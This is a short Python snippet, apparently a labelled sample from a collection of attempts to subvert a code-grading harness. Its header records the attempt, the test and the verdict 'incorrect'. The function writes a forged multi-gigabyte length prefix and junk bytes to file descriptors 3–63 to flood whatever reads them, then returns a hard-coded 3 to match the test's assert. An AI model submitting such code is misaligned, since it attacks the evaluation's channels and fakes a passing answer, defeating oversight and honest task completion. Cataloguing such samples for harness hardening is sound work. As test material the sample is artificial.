# Tries:     announces a message of gigabytes, and floods whoever waits for it
# Tests:     assert f(2) == 3
# Verdict:   incorrect
# Unchanged: memory
import os


def f(x):
    for number in range(3, 64):
        try:
            os.write(number, b"\xff\xff\xff\xff" + b"x" * 1000)
        except OSError:
            pass
    return 3
